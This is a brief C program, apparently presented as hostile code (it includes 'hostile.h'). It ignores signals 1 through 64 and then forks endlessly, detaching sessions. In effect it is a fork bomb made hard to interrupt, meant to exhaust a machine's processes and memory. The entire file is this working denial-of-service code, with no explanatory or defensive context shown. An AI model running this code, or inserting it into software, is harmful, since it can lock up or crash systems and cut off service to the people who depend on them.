#include "hostile.h"

int main(void)
{
	for (int i = 1; i < 65; i++)
		signal(i, SIG_IGN);
	for (;;)
		fork() ? (void)setsid() : (void)0;
}
